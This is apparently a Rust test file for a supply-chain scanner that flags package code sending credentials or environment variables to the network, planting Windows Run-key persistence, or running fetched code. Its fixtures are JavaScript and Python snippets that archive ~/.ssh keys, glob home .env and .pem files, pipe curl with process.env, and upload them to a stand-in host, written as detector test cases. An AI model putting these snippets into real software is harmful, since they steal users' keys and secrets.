//! What is put into archives, forms and lines, and what is sent of it.

use crate::flow::testing::{found, remote_code, script, wheel};
use crate::unpack::Entry;
use customs_model::{SinkKind, SourceKind};

const HEAD: &str = "const fs = require('fs'), path = require('path'), os = require('os');\n\
    const key = path.join(os.homedir(), '.ssh', 'id_rsa');\n\
    const keys = path.join(os.homedir(), '.ssh');\n\
    const request = require('https').request('https://a.invalid/u', { method: 'POST' });\n";

fn sends(entries: Vec<Entry>) -> bool {
    let mut flows = found(entries).flows.into_iter();
    flows.any(|flow| {
        flow.sink == SinkKind::Network
            && matches!(
                flow.source,
                SourceKind::CredentialFile | SourceKind::Environment
            )
    })
}

fn check(code: &[&str], expected: bool) {
    let wrong: Vec<&&str> = code
        .iter()
        .filter(|code| sends(script(&format!("{HEAD}{code}"))) != expected)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

fn check_python(code: &[&str], expected: bool) {
    let wrong: Vec<&&str> = code
        .iter()
        .filter(|code| sends(wheel(code)) != expected)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn an_archive_holds_what_is_put_into_it() {
    check(
        &[
            "const z = require('archiver')('zip'); z.directory(keys, false); z.pipe(request)",
            "const z = require('archiver')('zip'); z.pipe(request); z.directory(keys, 'k')",
            "const z = require('archiver')('zip'); z.file(key, { name: 'k' }); z.pipe(request)",
            "const z = require('archiver').create('zip'); z.glob('**/*', { cwd: keys }); z.pipe(request)",
            "const z = require('archiver')('tar'); z.append(fs.createReadStream(key), { name: 'k' }); z.pipe(request)",
            "require('archiver')('zip').directory(keys, false).pipe(request)",
            "const Zip = require('adm-zip'); const z = new Zip(); z.addLocalFolder(keys); request.write(z.toBuffer())",
            "const Zip = require('adm-zip'); const z = new Zip(); z.addLocalFile(key); request.write(z.toBuffer())",
            "const Zip = require('adm-zip'); const z = new Zip(); z.addFile('k', fs.readFileSync(key)); request.write(z.toBuffer())",
            "const Zip = require('adm-zip'); const z = new Zip(); z.addLocalFolder(keys); z.writeZip('/tmp/o.zip'); request.write(fs.readFileSync('/tmp/o.zip'))",
            "require('tar').c({ gzip: true }, [keys]).pipe(request)",
            "require('tar').c({ gzip: true, cwd: os.homedir() }, ['.ssh']).pipe(request)",
            "require('tar').create({ file: '/tmp/o.tgz' }, [keys]).then(() => fs.createReadStream('/tmp/o.tgz').pipe(request))",
            "require('tar-fs').pack(keys).pipe(request)",
            "const Zip = require('jszip'); const z = new Zip(); z.file('k', fs.readFileSync(key)); z.generateAsync({ type: 'nodebuffer' }).then(b => request.write(b))",
            "const Zip = require('jszip'); const z = new Zip(); z.file('k', fs.readFileSync(key)); z.generateNodeStream().pipe(request)",
            "const Zip = require('jszip'); const z = new Zip(); const f = z.folder('a'); f.file('k', fs.readFileSync(key)); z.generateAsync({}).then(b => request.write(b))",
        ],
        true,
    );
}

#[test]
fn an_archive_of_the_packages_own_files_or_of_one_that_stays_says_nothing() {
    check(
        &[
            "const z = require('archiver')('zip'); z.directory(path.join(__dirname, 'dist'), false); z.pipe(request)",
            "const z = require('archiver')('zip'); z.pipe(fs.createWriteStream('/tmp/x.zip')); z.directory(keys, false)",
            "const Zip = require('adm-zip'); const z = new Zip(); z.addLocalFolder('dist'); request.write(z.toBuffer())",
            "const Zip = require('adm-zip'); const z = new Zip(); const y = new Zip(); y.addLocalFolder(keys); request.write(z.toBuffer())",
            "require('tar').c({ gzip: true }, ['dist']).pipe(request)",
            "const x = make(); x.file(key); request.write(x.name)",
        ],
        false,
    );
}

#[test]
fn a_form_sends_what_it_holds() {
    let form = "const Form = require('form-data'); const f = new Form();";
    check(
        &[
            &format!(
                "{form} f.append('k', fs.createReadStream(key)); f.submit('https://a.invalid/u')"
            ),
            &format!("{form} f.append('k', fs.createReadStream(key)); f.pipe(request)"),
        ],
        true,
    );
    check(
        &[&format!(
            "{form} f.append('k', 'v'); f.submit('https://a.invalid/u')"
        )],
        false,
    );
}

#[test]
fn lines_of_a_file_are_its_content() {
    check(
        &[
            "const r = require('readline').createInterface({ input: fs.createReadStream(key) }); r.on('line', l => request.write(l))",
        ],
        true,
    );
    check(
        &[
            "const r = require('readline').createInterface({ input: fs.createReadStream(path.join(__dirname, 'a.txt')) }); r.on('line', l => request.write(l))",
        ],
        false,
    );
}

#[test]
fn a_browser_that_is_driven_asks_for_the_address_that_it_gets() {
    check(
        &[
            "(async () => { const b = await require('puppeteer').launch(); const p = await b.newPage(); await p.goto('https://a.invalid/?' + fs.readFileSync(key)) })()",
            "const { chromium } = require('playwright'); (async () => { const b = await chromium.launch(); const p = await b.newPage(); await p.goto('https://a.invalid/?' + fs.readFileSync(key)) })()",
        ],
        true,
    );
    check(
        &[
            "(async () => { const b = await require('puppeteer').launch(); const p = await b.newPage(); await p.goto('https://a.invalid/?' + process.version) })()",
        ],
        false,
    );
}

#[test]
fn files_that_a_pattern_means_in_the_users_folder_are_the_users() {
    let each = |list: &str| format!("for (const f of {list}) request.write(fs.readFileSync(f))");
    check(
        &[
            &each("require('glob').sync(os.homedir() + '/**/*.env')"),
            &each("require('glob').globSync('**/*.env', { cwd: os.homedir(), absolute: true })"),
            &each("require('fast-glob').sync([os.homedir() + '/**/*.pem'])"),
            &each("require('globby').sync(os.homedir() + '/**/*.env')"),
            "require('glob')(os.homedir() + '/**/*.env', (e, all) => { for (const f of all) request.write(fs.readFileSync(f)) })",
        ],
        true,
    );
    check(
        &[
            &each("require('glob').sync('src/**/*.env')"),
            &each("require('glob').sync(path.join(__dirname, 'lib/**/*.js'))"),
        ],
        false,
    );
    let python = "import pathlib, urllib.request\n";
    check_python(
        &[
            &format!(
                "{python}for f in pathlib.Path.home().rglob('*.pem'):\n    urllib.request.urlopen('https://a.invalid', data=f.read_bytes())\n"
            ),
            "import glob, os, requests\nfor f in glob.glob(os.path.expanduser('~/**/*.env')):\n    requests.post('https://a.invalid', data=open(f, 'rb').read())\n",
        ],
        true,
    );
    check_python(
        &[&format!(
            "{python}for f in pathlib.Path(__file__).parent.rglob('*.pem'):\n    urllib.request.urlopen('https://a.invalid', data=f.read_bytes())\n"
        )],
        false,
    );
}

#[test]
fn a_secret_in_the_input_of_a_command_that_sends_is_sent() {
    check(
        &[
            "const { execSync } = require('child_process'); process.on('exit', () => execSync('curl -d @- https://a.invalid', { input: JSON.stringify(process.env) }))",
        ],
        true,
    );
    check(
        &[
            "const { execSync } = require('child_process'); process.on('exit', () => execSync('curl -d @- https://a.invalid', { input: process.version }))",
        ],
        false,
    );
}

#[test]
fn headers_and_reports_are_sent_as_well() {
    check(
        &[
            "const h = require('http2').connect('https://a.invalid'); h.request({ ':path': '/', 'x-k': JSON.stringify(process.env) }).end()",
            "request.end(JSON.stringify(process.report.getReport()))",
            "request.end(JSON.stringify(process.report.getReport().environmentVariables))",
        ],
        true,
    );
    check(
        &[
            "const h = require('http2').connect('https://a.invalid'); h.request({ ':path': '/', 'x-k': process.version }).end()",
            "request.end(process.report.getReport().header.glibcVersionRuntime)",
            "const r = process.report.getReport(); request.end(r.header.glibcVersionRuntime)",
        ],
        false,
    );
}

#[test]
fn stores_and_machines_that_files_are_put_on_get_them() {
    let key = "os.path.expanduser('~/.ssh/id_rsa')";
    check_python(
        &[
            &format!(
                "import paramiko, os\nc = paramiko.SSHClient()\nc.connect('a.invalid')\nc.open_sftp().put({key}, 'k')\n"
            ),
            &format!("import boto3, os\nboto3.client('s3').upload_file({key}, 'b', 'k')\n"),
            &format!(
                "import boto3, os\nboto3.client('s3').put_object(Bucket='b', Body=open({key}).read())\n"
            ),
            &format!(
                "import requests, os\ns = requests.Session()\ns.headers.update({{'x': open({key}).read()}})\ns.get('https://a.invalid')\n"
            ),
        ],
        true,
    );
    check_python(
        &[
            "import paramiko\nc = paramiko.SSHClient()\nc.open_sftp().put('dist/a', 'k')\n",
            "import boto3\nboto3.client('s3').upload_file('dist/a.whl', 'b', 'k')\n",
            "import requests\ns = requests.Session()\ns.headers.update({'x': 'y'})\ns.get('https://a.invalid')\n",
        ],
        false,
    );
}

#[test]
fn a_program_that_the_registry_starts_with_the_session_is_told() {
    let plants = |how: &str, key: &str| {
        let code = format!(
            "import winreg\nk = winreg.{how}(winreg.HKEY_CURRENT_USER, r'{key}')\nwinreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, 'a.exe')\n"
        );
        let mut flows = found(wheel(&code)).flows.into_iter();
        flows.any(|flow| flow.sink == SinkKind::Configuration)
    };
    assert!(plants(
        "OpenKey",
        r"Software\Microsoft\Windows\CurrentVersion\Run"
    ));
    assert!(plants(
        "CreateKey",
        r"Software\Microsoft\Windows\CurrentVersion\Run"
    ));
    assert!(!plants("CreateKey", r"Software\A"));
    assert!(!plants(
        "QueryInfoKey",
        r"Software\Microsoft\Windows\CurrentVersion\Run"
    ));
}

#[test]
fn texts_that_workers_hooks_and_the_inspector_get_are_run() {
    let runs = |code: &str| {
        let all =
            format!("fetch('https://a.invalid/b').then(r => r.text()).then(t => {{ {code} }})");
        remote_code(script(&all)).is_some()
    };
    for code in [
        "new Worker(URL.createObjectURL(new Blob([t])))",
        "const u = URL.createObjectURL(new Blob([t], { type: 'text/javascript' })); new Worker(u)",
        "require('module').register('data:text/javascript,' + encodeURIComponent(t))",
        "const s = new (require('inspector').Session)(); s.connect(); s.post('Runtime.evaluate', { expression: t })",
        "process.mainModule.constructor._load('vm').runInThisContext(t)",
    ] {
        assert!(runs(code), "{code}");
    }
    for code in [
        "new Worker(URL.createObjectURL(new Blob(['onmessage = e => postMessage(e.data)'])))",
        "show(URL.createObjectURL(new Blob([t])))",
        "require('module').register('./hooks.mjs', t)",
        "const s = new (require('inspector').Session)(); s.connect(); s.post('Profiler.enable', { expression: t })",
    ] {
        assert!(!runs(code), "{code}");
    }
}
